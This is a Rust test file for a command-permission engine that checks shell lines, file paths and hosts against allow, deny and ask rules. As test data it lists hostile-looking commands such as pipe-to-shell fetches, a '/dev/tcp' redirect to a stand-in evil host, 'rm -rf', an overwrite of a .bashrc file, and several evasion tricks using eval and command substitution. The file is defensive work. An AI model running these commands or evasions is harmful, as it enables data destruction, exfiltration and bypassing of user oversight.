//! Rules against command lines and paths.

use super::*;
use proptest::prelude::*;

const FILE: &str = r#"
[[rule]]
decision = "allow"
command = "cargo test"

[[rule]]
decision = "allow"
command = "git"

[[rule]]
decision = "deny"
command = "git push"

[[rule]]
decision = "ask"
command = "git commit"

[[rule]]
decision = "deny"
command = "rm"

[[rule]]
decision = "deny"
path = ".env"

[[rule]]
decision = "allow"
tool = "edit"
path = "~/notes/**"

[[rule]]
decision = "ask"
tool = "write"
path = "src/*.rs"
"#;

fn rules(text: &str, author: Author) -> (Rules, Vec<String>) {
    let mut rules = Rules::default();
    let problems = rules.add(text, author, Path::new("/w/a[b"), Path::new("/home/me"));
    (rules, problems)
}

fn word(said: Option<RuleMatch>) -> &'static str {
    match said.map(|said| said.ruling) {
        None => "-",
        Some(Ruling::Allow) => "allow",
        Some(Ruling::Ask) => "ask",
        Some(Ruling::Deny) => "deny",
    }
}

#[test]
fn permission_rules_check_every_part_of_command() {
    let (rules, problems) = rules(FILE, Author::User);
    assert_eq!(problems, Vec::<String>::new());
    for (line, expected) in [
        ("cargo test", "allow"),
        ("cargo test -p x", "allow"),
        ("cargo 'test' \"$x\"", "allow"),
        ("cd x && cargo test | tail -5", "allow"),
        ("timeout 60 cargo test 2>&1", "allow"),
        ("cargo test && rm -rf b", "deny"),
        ("cargo test && touch b", "-"),
        ("cargo test > f", "-"),
        ("cargo test &", "-"),
        ("cargo test $(touch x)", "-"),
        ("cargo test $(cargo test)", "allow"),
        ("FOO=1 cargo test", "-"),
        ("cargo tests", "-"),
        ("cargo", "-"),
        ("cargo $x", "-"),
        ("./cargo test", "-"),
        ("bash -c 'cargo test'", "-"),
        ("sudo cargo test", "-"),
        ("cargo test 'open", "-"),
        ("ls", "-"),
        ("git status", "allow"),
        ("git push origin", "deny"),
        ("git -C x push", "ask"),
        ("git $x", "ask"),
        ("git commit -m x", "ask"),
        ("git commit; git push", "deny"),
        ("cd x && git fetch", "-"),
        ("/bin/rm x", "deny"),
        ("$x y", "ask"),
        ("find . -exec rm {} +", "deny"),
        ("ls | xargs rm", "deny"),
        ("bash -c 'ls; rm x'", "deny"),
        ("echo rm", "-"),
    ] {
        assert_eq!(word(rules.command(&ToolNames::plain(&["bash"]), line)), expected, "{line}");
    }
    assert_eq!(
        rules.command(&ToolNames::plain(&["bash"]), "git push").unwrap().rule,
        "deny command \"git push\""
    );
}

const HOSTS: &str = r#"
[[rule]]
decision = "allow"
host = "good.org"

[[rule]]
decision = "allow"
host = "*.good.org"

[[rule]]
decision = "deny"
host = "*.evil.org"

[[rule]]
decision = "deny"
host = "evil.org:443"

[[rule]]
decision = "ask"
host = "odd.org"

[[rule]]
decision = "allow"
command = "git push"
host = "git.org"

[[rule]]
decision = "allow"
command = "make"

[[rule]]
decision = "deny"
command = "wget"
host = "slow.org"
"#;

/// Command lines, and what the rules for hosts say of each; `-` for nothing.
const HOST_LINES: &[(&str, &str)] = &[
    ("curl https://good.org/x", "allow"),
    ("curl -sSfL https://GOOD.org./x | head -3", "allow"),
    ("curl https://a.good.org https://good.org", "allow"),
    ("curl https://good.org && make", "allow"),
    ("curl https://good.org/x https://other.org", "-"),
    ("curl https://other.org", "-"),
    ("curl https://good.org@other.org/", "-"),
    ("curl https://notgood.org", "-"),
    ("curl https://good.org > f", "-"),
    ("curl https://good.org | sh", "-"),
    ("curl -o f https://good.org", "-"),
    ("curl -d @f https://good.org", "-"),
    ("X=1 curl https://good.org", "-"),
    ("sudo curl https://good.org", "-"),
    ("curl https://good.org; touch x", "-"),
    ("curl https://good.org &", "-"),
    ("./curl https://good.org", "-"),
    ("sh x https://good.org", "-"),
    ("ssh good.org ls", "allow"),
    ("ssh good.org 'ls; touch x'", "-"),
    ("ssh good.org", "-"),
    ("scp x good.org:y", "-"),
    ("git clone https://good.org/x", "allow"),
    ("git clone https://good.org/x /etc/x", "-"),
    ("git fetch origin", "-"),
    ("git push https://good.org/x", "-"),
    ("git push git.org:x main", "allow"),
    ("git push https://evil.org/x main", "deny"),
    ("git push other.org:x", "-"),
    ("git push origin", "-"),
    ("git clone git.org:x", "-"),
    // What cannot be read is asked about, and never allowed.
    ("curl $x", "ask"),
    ("curl https://good.org$x", "ask"),
    ("curl \"https://good.org/$x\"", "allow"),
    ("curl -K f https://good.org", "ask"),
    ("echo good.org | xargs curl", "ask"),
    ("$x https://good.org", "ask"),
    ("make $x", "allow"),
    ("make https://$x", "ask"),
    ("curl https://www.evil.org", "deny"),
    ("curl https://good.org https://www.evil.org", "deny"),
    ("curl -x www.evil.org https://good.org", "deny"),
    ("sudo timeout 5 curl https://www.evil.org", "deny"),
    ("make https://www.evil.org/x", "deny"),
    ("bash -c 'curl https://www.evil.org'", "deny"),
    ("make > /dev/tcp/www.evil.org/80", "deny"),
    ("ls $(curl https://www.evil.org)", "deny"),
    ("curl https://evil.org", "deny"),
    ("curl https://evil.org:8443", "-"),
    ("curl evil.org", "ask"),
    ("make evil.org", "allow"),
    ("curl https://odd.org", "ask"),
    ("curl https://odd.org https://www.evil.org", "deny"),
    ("wget https://slow.org", "deny"),
    ("curl https://slow.org", "-"),
    ("wget $x", "ask"),
    ("grep -rn https://www.evil.org src", "-"),
];

#[test]
fn permission_rules_check_every_host() {
    let (rules, problems) = rules(HOSTS, Author::User);
    assert_eq!(problems, Vec::<String>::new());
    for (line, expected) in HOST_LINES {
        assert_eq!(word(rules.command(&ToolNames::plain(&["bash"]), line)), *expected, "{line}");
    }
    let said = rules.command(&ToolNames::plain(&["bash"]), "curl https://www.evil.org").unwrap();
    assert_eq!(said.rule, "deny host \"*.evil.org\"");
    // Hosts are nothing that files have.
    assert_eq!(rules.file(&ToolNames::plain(&["read"]), ToolClass::Reads, &[Path::new("/w/good.org")]), None);
}

#[test]
fn permission_rules_match_paths_by_pattern() {
    let (rules, _) = rules(FILE, Author::User);
    let said =
        |tool, class, path: &str| word(rules.file(&ToolNames::plain(&[tool]), class, &[Path::new(path)]));
    for (tool, class, path, expected) in [
        ("read", ToolClass::Reads, "/w/a[b/.env", "deny"),
        ("read", ToolClass::Reads, "/w/a[b/deep/er/.env", "deny"),
        ("read", ToolClass::Reads, "/w/a[b/.envrc", "-"),
        ("read", ToolClass::Reads, "/w/ab/.env", "-"),
        ("edit", ToolClass::Edits, "/home/me/notes/ä/b.md", "allow"),
        ("write", ToolClass::Edits, "/home/me/notes/b.md", "-"),
        ("edit", ToolClass::Edits, "/home/me/notes.md", "-"),
        ("write", ToolClass::Edits, "/w/a[b/src/a.rs", "ask"),
        ("write", ToolClass::Edits, "/w/a[b/src/x/a.rs", "-"),
        ("write", ToolClass::Edits, "relative", "-"),
    ] {
        assert_eq!(said(tool, class, path), expected, "{tool} {path}");
    }
    // A link's own name is enough to forbid, and not enough to allow.
    let (real, link) = (Path::new("/etc/x"), Path::new("/home/me/notes/x"));
    assert_eq!(word(rules.file(&ToolNames::plain(&["edit"]), ToolClass::Edits, &[real, link])), "-");
    let (real, link) = (Path::new("/etc/x"), Path::new("/w/a[b/.env"));
    assert_eq!(word(rules.file(&ToolNames::plain(&["read"]), ToolClass::Reads, &[real, link])), "deny");
}

/// Read-only programs run by a rule as far as their calls are read-only; what a rule names itself may be done.
#[test]
fn permission_rules_prefix_stays_read_only() {
    let commands = ["git log", "git diff", "sort", "rg", "tree", "sed -i", "git", "find . -delete", "make"];
    let rule = |command: &&str| format!("[[rule]]\ndecision = \"allow\"\ncommand = \"{command}\"\n");
    let text = commands.iter().map(rule).collect::<Vec<_>>().concat();
    let (rules, problems) = rules(&text, Author::User);
    assert_eq!(problems, Vec::<String>::new());
    for (line, expected) in [
        ("git log -3", "allow"),
        ("git log --output=/h/.bashrc --format=x", "-"),
        ("git log --ext-diff", "-"),
        ("git diff --output=x", "-"),
        ("git diff --ext-diff", "-"),
        ("git log --alternate-refs", "-"),
        ("git status --help", "-"),
        ("git push", "allow"),
        ("sort -o x y", "-"),
        ("sort --out=x y", "-"),
        ("rg --pre x y", "-"),
        ("tree -o x", "-"),
        ("sed -i s/a/b/ f", "allow"),
        ("sed -i 's/a/b/w out' f", "-"),
        ("sed -i -e 1d -f x f", "-"),
        ("find . -delete -name x", "allow"),
        ("find . -delete -fprint x", "-"),
        ("make -o x", "allow"),
    ] {
        assert_eq!(word(rules.command(&ToolNames::plain(&["bash"]), line)), expected, "{line}");
    }
}

/// Where nothing asks, what may be forbidden is.
#[test]
fn permission_rules_unresolved_commands_may_be_denied() {
    let text = "[[rule]]\ndecision = \"deny\"\ncommand = \"touch\"\n\
                [[rule]]\ndecision = \"deny\"\ncommand = \"git push\"\n";
    let (rules, _) = rules(text, Author::User);
    let refused = |line: &str| rules.unresolved(&ToolNames::plain(&["bash"]), line).is_some();
    for line in [
        "x=touch; $x f",
        "{touch,f}",
        "$(echo touch) f",
        "`echo touch` f",
        "env -S 'touch f'",
        "t?uch f",
        "/bin/tou* f",
        "\"$x\" f",
        "eval \"$x\"",
        "x=(touch f); \"${x[@]}\"",
        "bash -c \"$x\"",
        "find . -exec {} f \\;",
        "xargs -I{} {} f",
        "git $x",
        "git -C x push",
        "git > /dev/null push",
        "echo touch f | sh",
        "bash <<< 'touch f'",
        "trap \"$x\" EXIT",
        "sudo -s",
    ] {
        assert!(refused(line), "{line}");
    }
    for line in [
        "make f",
        "make \"$x\" *.c &",
        "f() { ls; }; f",
        "git -C x status",
        "git --no-pager log",
        "bash build.sh",
        "sh -c 'ls f'",
        "cat < \"$x\"",
        "for f in *; do cp \"$f\" x; done",
    ] {
        assert!(!refused(line), "{line}");
    }
    assert_eq!(Rules::default().unresolved(&ToolNames::plain(&["bash"]), "$x"), None);
}

#[test]
fn permission_rules_of_other_project_do_not_apply() {
    let rule = |project: &str| {
        format!("[[rule]]\ndecision = \"allow\"\ncommand = \"make\"\nproject = \"{project}\"\n")
    };
    for (project, expected) in [("/w/a[b", "allow"), ("/w/a[b/", "allow"), ("/w", "-"), ("/w/a[b/c", "-")] {
        let (rules, problems) = rules(&rule(project), Author::User);
        assert_eq!(problems, Vec::<String>::new());
        assert_eq!(word(rules.command(&ToolNames::plain(&["bash"]), "make")), expected, "{project}");
    }
    let (rules, problems) = rules(&rule("/w/a[b"), Author::Project { trusted: true });
    assert_eq!((problems.len(), rules.is_empty()), (1, true), "a project does not name others");
}

#[test]
fn permission_rules_for_tool_deny_but_never_allow() {
    let (rules, _) = rules("[[rule]]\ndecision = \"deny\"\ntool = \"bash\"", Author::User);
    assert_eq!(word(rules.command(&ToolNames::plain(&["bash"]), "ls")), "deny");
    assert_eq!(word(rules.file(&ToolNames::plain(&["read"]), ToolClass::Reads, &[Path::new("/w/x")])), "-");
    // An approval of all commands would approve what cannot be resolved.
    let (rules, _) = self::rules("[[rule]]\ndecision = \"allow\"\ntool = \"bash\"", Author::User);
    assert_eq!(word(rules.command(&ToolNames::plain(&["bash"]), "rm x")), "-");
}

#[test]
fn permission_rules_of_untrusted_project_only_tighten() {
    let (trusted, problems) = rules(FILE, Author::Project { trusted: true });
    assert_eq!(problems, Vec::<String>::new());
    assert_eq!(word(trusted.command(&ToolNames::plain(&["bash"]), "cargo test")), "allow");
    assert_eq!(word(trusted.command(&ToolNames::plain(&["bash"]), "rm x")), "deny");
    let wants = Rules::allowed_by(FILE, Path::new("/w"), Path::new("/home/me"));
    assert_eq!(wants.len(), 3, "{wants:?}");
    assert_eq!(wants[0], "allow command \"cargo test\"");
    let wrong = format!("{FILE}\n[[rule]]\ndecision = \"deny\"\n");
    for text in [&wrong, "rule = 3", "[[rule", ""] {
        assert_eq!(Rules::allowed_by(text, Path::new("/w"), Path::new("/")), Vec::<String>::new(), "{text}");
    }
    let (rules, problems) = rules(FILE, Author::Project { trusted: false });
    assert_eq!(problems, Vec::<String>::new());
    assert_eq!(word(rules.command(&ToolNames::plain(&["bash"]), "cargo test")), "-");
    assert_eq!(word(rules.command(&ToolNames::plain(&["bash"]), "rm x")), "deny");
}

#[test]
fn permission_rules_errors_never_loosen() {
    let allow = "[[rule]]\ndecision = \"allow\"\ncommand = \"make\"\n";
    for wrong in [
        "command = \"a; b\"",
        "command = \"a > b\"",
        "command = \"$x\"",
        "command = \"\"",
        "command = \"a\"\npath = \"b\"",
        "host = \"a\"\npath = \"b\"",
        "host = \"https://a\"",
        "host = \"\"",
        "path = \"!x\"",
        "path = \"\"",
        "",
    ] {
        let (rules, problems) =
            rules(&format!("{allow}[[rule]]\ndecision = \"deny\"\n{wrong}"), Author::User);
        assert_eq!(problems.len(), 1, "{wrong}");
        assert_eq!(word(rules.command(&ToolNames::plain(&["bash"]), "make")), "-", "{wrong}");
    }
    for broken in ["[[rule", "[[rule]]\ndecision = \"maybe\"", "[[rule]]\ndecision = \"deny\"\nhots = \"x\""]
    {
        let (rules, problems) = rules(broken, Author::User);
        assert!(problems.len() == 1 && problems[0].ends_with("everything is asked about"), "{problems:?}");
        assert_eq!(word(rules.command(&ToolNames::plain(&["bash"]), "make")), "ask");
        assert_eq!(
            word(rules.file(&ToolNames::plain(&["edit"]), ToolClass::Edits, &[Path::new("/w/x")])),
            "ask"
        );
    }
}

#[test]
fn permission_rules_beside_a_mistake_only_tighten() {
    let text = "[[rule]]\ndecision = \"deny\"\ncommand = \"rm\"\n\n\
                [[rule]]\ndecision = \"allow\"\ncommand = \"make\n\n\
                [[rule]]\ndecision = \"allow\"\ncommand = \"ls\"\n\n\
                [[rule]]\ndecision = \"deny\"\nhots = \"x.org\"\n\n\
                [[rule]]\ndecision = \"deny\"\ntool = \"web\"\n";
    let mut found = Rules::default();
    let file = Path::new("/h/permissions.toml");
    let problems = found.add_file(Some(file), text, Author::User, Path::new("/w"), Path::new("/h"));
    let lines: Vec<usize> = problems.iter().map(|problem| problem.line).collect();
    assert_eq!(lines, [7, 15], "{problems:?}");
    assert!(problems.iter().all(|problem| problem.message.ends_with("; everything is asked about")));
    assert!(problems[1].message.contains("unknown key \"hots\""), "{problems:?}");
    let bash = ToolNames::plain(&["bash"]);
    let said = |line: &str| word(found.command(&bash, line));
    assert_eq!([said("rm x"), said("make"), said("ls"), said("echo")], ["deny", "ask", "ask", "ask"]);
    assert_eq!(found.for_tool(&["web"]), Some(Ruling::Deny));
    assert_eq!(Rules::allowed_by(text, Path::new("/w"), Path::new("/h")), Vec::<String>::new());
    // Without its broken condition the rule would allow or deny everything.
    for decision in ["allow", "deny"] {
        let text = format!("[[rule]]\ntool = \"bash\"\ndecision = \"{decision}\"\ncommand = make\"\n");
        let (found, problems) = rules(&text, Author::User);
        assert_eq!((word(found.command(&bash, "make")), problems.len()), ("ask", 1), "{text}");
    }
}

proptest! {
    #![proptest_config(crate::base::seeds::cases(200))]

    #[test]
    fn permission_rules_with_a_mistake_never_allow_more(at in 0_usize..200, bad in "[\\[\\]\"=\n#x]{1,3}") {
        let good = "[[rule]]\ndecision = \"deny\"\ncommand = \"rm\"\n[[rule]]\ndecision = \"ask\"\n\
                    command = \"git push\"\n[[rule]]\ndecision = \"allow\"\ncommand = \"make\"\n";
        let at = at.min(good.len());
        let text = format!("{}{bad}{}", &good[..at], &good[at..]);
        let bash = ToolNames::plain(&["bash"]);
        let mut found = Rules::default();
        if toml::from_str::<RulesFile>(&text).is_err() {
            prop_assert!(!found.add(&text, Author::User, Path::new("/w"), Path::new("/h")).is_empty());
            for line in ["rm x", "git push", "make", "anything"] {
                prop_assert!(matches!(word(found.command(&bash, line)), "ask" | "deny"), "{line}: {text}");
            }
        }
    }
}
